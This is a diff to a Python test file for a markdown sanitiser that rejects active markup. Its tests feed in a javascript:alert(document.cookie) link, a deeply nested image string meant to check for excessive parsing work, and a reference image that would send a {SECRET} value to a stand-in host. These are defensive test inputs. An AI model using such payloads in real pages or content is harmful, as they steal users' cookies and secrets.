@@ -364,3 +364,30 @@ def test_a_proposal_with_active_markup_is_refused_and_nothing_is_stored(tmp_path
         propose(ctx, [ref(event)], text="Retries use jitter; see [the guide](javascript:alert(document.cookie)).")
     stored = Context.open(str(ctx.workspace.root)).store.items(["learning"], payloads=True)
     assert not any("document.cookie" in json.dumps(i.record) for i in stored)
+
+
+def test_the_alt_text_of_nested_images_is_read_as_a_label_a_bounded_number_of_times(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Counted, not timed: images nested thousands deep each have all the images inside them as
+    alt text; a label holds at most 999 characters, so no alt text longer is read as one."""
+    looked_at = [0]
+    label = active_module.link_label
+
+    def counting(value: str) -> str:
+        looked_at[0] += len(value) + 1
+        return label(value)
+
+    monkeypatch.setattr(active_module, "link_label", counting)
+
+    def characters(depth: int) -> int:
+        looked_at[0] = 0
+        assert active_module.active_markup_count("[r]: {x}\n" + "![" * depth + "]" * depth) == 0
+        return looked_at[0]
+
+    small, large = characters(3_000), characters(30_000)
+    assert large <= 12 * small and large <= 3 * 5 * 30_000, (small, large)
+
+
+def test_a_reference_image_after_images_nested_deep_is_still_found() -> None:
+    depth = 30_000
+    assert active("[r]: https://x.example/p?d={SECRET}\n" + "![" * depth + "]" * depth + " ![r] ![ok][r]") == 2
